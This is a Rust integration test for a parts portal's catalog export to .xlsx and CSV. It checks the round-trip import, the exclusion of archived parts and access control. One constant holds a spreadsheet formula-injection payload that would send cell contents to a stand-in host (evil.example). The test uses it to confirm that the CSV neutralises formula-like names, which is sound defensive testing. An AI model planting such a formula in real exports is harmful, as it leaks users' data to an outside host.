//! The catalog export: a seller downloads their own catalog as .xlsx or CSV,
//! and the importer reads the file back to the same records: every part,
//! number, price, list and formula-looking name as in the database.

use axum::http::StatusCode;
use partsportal::db::catalog_export;
use partsportal::demo::users::DEMO_PASSWORD;
use partsportal::domain::catalog_import::ModelMatcher;
use partsportal_importers::{Options, PartRecord, Scope, Severity, Sheet, Workbook, validate};

use crate::helpers::{Client, TestApp, engines, spawn_app};

const SELLER: &str = "seller-admin@manufacturer.example.com";
const OTHER_SELLER: &str = "seller-admin@supplier.example.com";
const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Click for discount\")";

async fn org_of(app: &TestApp, email: &str) -> (String, String) {
    partsportal::on_db!(&app.db, |p| sqlx::query_as(
        "SELECT o.id, o.name FROM organizations o JOIN users u ON u.org_id = o.id WHERE u.email = $1"
    )
    .bind(email)
    .fetch_one(p)
    .await)
    .unwrap()
}

async fn exec(app: &TestApp, sql: &'static str, a: &str, b: &str) {
    partsportal::on_db!(&app.db, |p| sqlx::query(sql)
        .bind(a)
        .bind(b)
        .execute(p)
        .await
        .map(|_| ()))
    .unwrap();
}

/// The seller's part ids with the given status, by normalized number.
async fn part_ids(app: &TestApp, seller: &str, archived_too: bool) -> Vec<(String, String)> {
    partsportal::on_db!(&app.db, |p| sqlx::query_as(
        "SELECT part_number_norm, id FROM parts WHERE seller_id = $1 AND ($2 OR status = 'active') \
         ORDER BY part_number_norm"
    )
    .bind(seller)
    .bind(archived_too)
    .fetch_all(p)
    .await)
    .unwrap()
}

/// Reads an export as an upload is read, and validates it.
fn read_back(bytes: &[u8], file_name: &str) -> (Sheet, Vec<PartRecord>) {
    let mut book = Workbook::open(bytes, file_name).unwrap();
    let sheet = book.read_sheet(0).unwrap();
    let v = validate(
        &sheet,
        &Options {
            scope: Scope::Everything,
            profile: &[],
            header_row: None,
            columns: &[],
            normalize: &partsportal_index::normalize_code,
        },
    );
    assert!(v.blocking.is_empty(), "{:?}", v.blocking);
    let errors: Vec<String> = v
        .problems
        .iter()
        .filter(|p| p.severity == Severity::Error)
        .map(ToString::to_string)
        .collect();
    assert!(errors.is_empty(), "{errors:?}");
    assert_eq!(v.header_row, 1);
    (sheet, v.records.iter().collect())
}

/// What the export should hold: the records of the catalog, numbered as
/// sheet rows from 2.
async fn expected(app: &TestApp, seller: &str, archived: bool) -> Vec<PartRecord> {
    let models = catalog_export::model_names(&app.db).await.unwrap();
    // Small pages, so the paging itself is exercised.
    let mut out = Vec::new();
    let mut after = String::new();
    loop {
        let (records, next) = catalog_export::page(&app.db, seller, archived, &after, 7, &models)
            .await
            .unwrap();
        out.extend(records);
        match next {
            Some(n) => after = n,
            None => break,
        }
    }
    for (i, r) in out.iter_mut().enumerate() {
        r.row = i as u32 + 2;
    }
    out
}

#[tokio::test]
async fn a_seller_exports_their_catalog_and_the_importer_reads_it_back() {
    for engine in engines() {
        let app = spawn_app(engine).await;
        let (seller, org_name) = org_of(&app, SELLER).await;
        let ids = part_ids(&app, &seller, false).await;
        assert!(ids.len() > 10, "{engine:?}: the demo seller has parts");
        // Formula-looking text, a hidden part and an archived one.
        exec(
            &app,
            "UPDATE parts SET name = $1 WHERE id = $2",
            HYPERLINK,
            &ids[0].1,
        )
        .await;
        exec(
            &app,
            "UPDATE parts SET name = $1 WHERE id = $2",
            "+91 cable, 2 m",
            &ids[1].1,
        )
        .await;
        exec(
            &app,
            "UPDATE parts SET visibility = $1 WHERE id = $2",
            "hidden",
            &ids[2].1,
        )
        .await;
        exec(
            &app,
            "UPDATE parts SET status = $1 WHERE id = $2",
            "archived",
            &ids[3].1,
        )
        .await;
        let active = part_ids(&app, &seller, false).await;
        let all = part_ids(&app, &seller, true).await;
        assert_eq!(active.len() + 1, all.len());

        let mut c = Client::new(&app);
        c.login(SELLER, DEMO_PASSWORD).await;
        let r = c.get("/seller/catalog/export.xlsx").await;
        assert_eq!(r.status, StatusCode::OK, "{engine:?}: {}", r.body);
        assert_eq!(
            r.headers["content-type"],
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        );
        let disposition = r.headers["content-disposition"]
            .to_str()
            .unwrap()
            .to_string();
        let today =
            partsportal::web::catalog_export::file_name(&org_name, app.clock.now_ms(), "xlsx");
        assert_eq!(disposition, format!("attachment; filename=\"{today}\""));
        assert!(
            today.ends_with(".xlsx") && today.contains("-catalog-20"),
            "{today}"
        );
        // The client reads bodies as text; fetch the bytes directly.
        let bytes = raw_get(&c, "/seller/catalog/export.xlsx").await;
        let (sheet, records) = read_back(&bytes, &today);
        let want = expected(&app, &seller, false).await;
        assert_eq!(records, want);
        assert_eq!(records.len(), active.len());
        // Every active part is there, hidden ones included; the archived
        // one is not.
        let numbers: Vec<&str> = records
            .iter()
            .map(|r| r.part_number_norm.as_str())
            .collect();
        assert_eq!(
            numbers,
            active.iter().map(|(n, _)| n.as_str()).collect::<Vec<_>>()
        );
        assert!(!numbers.contains(&ids[3].0.as_str()));
        assert!(numbers.contains(&ids[2].0.as_str()));

        // Independently of the export's own mapping: names, prices, stock and
        // models as the catalog pages show them.
        let matcher_models = partsportal::db::imports::known_models(&app.db)
            .await
            .unwrap();
        let matcher = ModelMatcher::new(&matcher_models);
        for r in &records {
            let id = &all
                .iter()
                .find(|(n, _)| *n == r.part_number_norm)
                .unwrap()
                .1;
            let p = partsportal::db::catalog::part(&app.db, id)
                .await
                .unwrap()
                .unwrap();
            assert_eq!(r.part_number, p.part_number);
            assert_eq!(r.name.as_deref(), Some(p.name.as_str()));
            assert_eq!(r.price_minor, Some(p.price_minor));
            assert_eq!(r.currency.map(|c| c.code()), Some(p.currency.as_str()));
            assert_eq!(r.stock, Some(p.stock));
            assert_eq!(
                r.manufacturer.as_deref(),
                Some(p.manufacturer_name.as_str())
            );
            assert_eq!(r.category.as_deref(), Some(p.category.as_str()));
            let mut fits: Vec<String> = partsportal::db::catalog::part_models(&app.db, id)
                .await
                .unwrap()
                .into_iter()
                .map(|m| m.id)
                .collect();
            let mut resolved: Vec<String> = r
                .compatible_models
                .iter()
                .map(|name| {
                    matcher
                        .find(name)
                        .unwrap_or_else(|| panic!("{name}"))
                        .id
                        .clone()
                })
                .collect();
            fits.sort();
            resolved.sort();
            assert_eq!(resolved, fits, "{}", r.part_number);
            assert_eq!(
                r.supersedes,
                partsportal::db::catalog::replaces(&app.db, id)
                    .await
                    .unwrap()
            );
        }
        assert!(records.iter().any(|r| !r.compatible_models.is_empty()));

        // Formula-looking names come back as typed, from a string cell.
        let first = records
            .iter()
            .find(|r| r.part_number_norm == ids[0].0)
            .unwrap();
        assert_eq!(first.name.as_deref(), Some(HYPERLINK));
        let second = records
            .iter()
            .find(|r| r.part_number_norm == ids[1].0)
            .unwrap();
        assert_eq!(second.name.as_deref(), Some("+91 cable, 2 m"));
        // Numbers are numbers, part numbers text.
        let row = &sheet.rows[1];
        assert!(matches!(row.cells[0], partsportal_importers::Cell::Text(_)));
        assert!(matches!(
            row.cells[8],
            partsportal_importers::Cell::Number(_)
        ));

        // The same catalog as CSV.
        let r = c.get("/seller/catalog/export.csv").await;
        assert_eq!(r.status, StatusCode::OK);
        assert_eq!(r.headers["content-type"], "text/csv; charset=utf-8");
        let csv = raw_get(&c, "/seller/catalog/export.csv").await;
        assert!(csv.starts_with(b"\xEF\xBB\xBF"));
        let text = String::from_utf8(csv.clone()).unwrap();
        assert!(text.contains("\"'=HYPERLINK("), "guarded in the CSV");
        assert!(text.contains("\"'+91 cable, 2 m\""));
        let (_, from_csv) = read_back(&csv, "catalog.csv");
        assert_eq!(from_csv, want);

        // With archived parts.
        let bytes = raw_get(&c, "/seller/catalog/export.xlsx?archived=1").await;
        let (_, with_archived) = read_back(&bytes, "catalog.xlsx");
        assert_eq!(with_archived, expected(&app, &seller, true).await);
        assert_eq!(with_archived.len(), all.len());
        assert_eq!(
            c.get("/seller/catalog/export.csv?archived=maybe")
                .await
                .status,
            StatusCode::BAD_REQUEST
        );

        // Another seller gets their own catalog only; a buyer none.
        let (other, _) = org_of(&app, OTHER_SELLER).await;
        let mut o = Client::new(&app);
        o.login(OTHER_SELLER, DEMO_PASSWORD).await;
        let theirs = raw_get(&o, "/seller/catalog/export.csv").await;
        let (_, theirs) = read_back(&theirs, "theirs.csv");
        assert_eq!(theirs, expected(&app, &other, false).await);
        assert!(theirs.iter().all(|r| r.name.as_deref() != Some(HYPERLINK)));
        let mut buyer = Client::new(&app);
        buyer
            .login("buyer@hospital.example.com", DEMO_PASSWORD)
            .await;
        assert_eq!(
            buyer.get("/seller/catalog/export.xlsx").await.status,
            StatusCode::FORBIDDEN
        );
        app.cleanup().await;
    }
}

/// A GET with the client's cookies, returning the body's bytes.
async fn raw_get(c: &Client<'_>, uri: &str) -> Vec<u8> {
    use http_body_util::BodyExt;
    use tower::ServiceExt;
    let cookies = c
        .cookies
        .iter()
        .map(|(k, v)| format!("{k}={v}"))
        .collect::<Vec<_>>()
        .join("; ");
    let req = axum::http::Request::builder()
        .uri(uri)
        .header("cookie", cookies)
        .body(axum::body::Body::empty())
        .unwrap();
    let resp = c.app.router.clone().oneshot(req).await.unwrap();
    assert_eq!(resp.status(), StatusCode::OK, "{uri}");
    resp.into_body()
        .collect()
        .await
        .unwrap()
        .to_bytes()
        .to_vec()
}
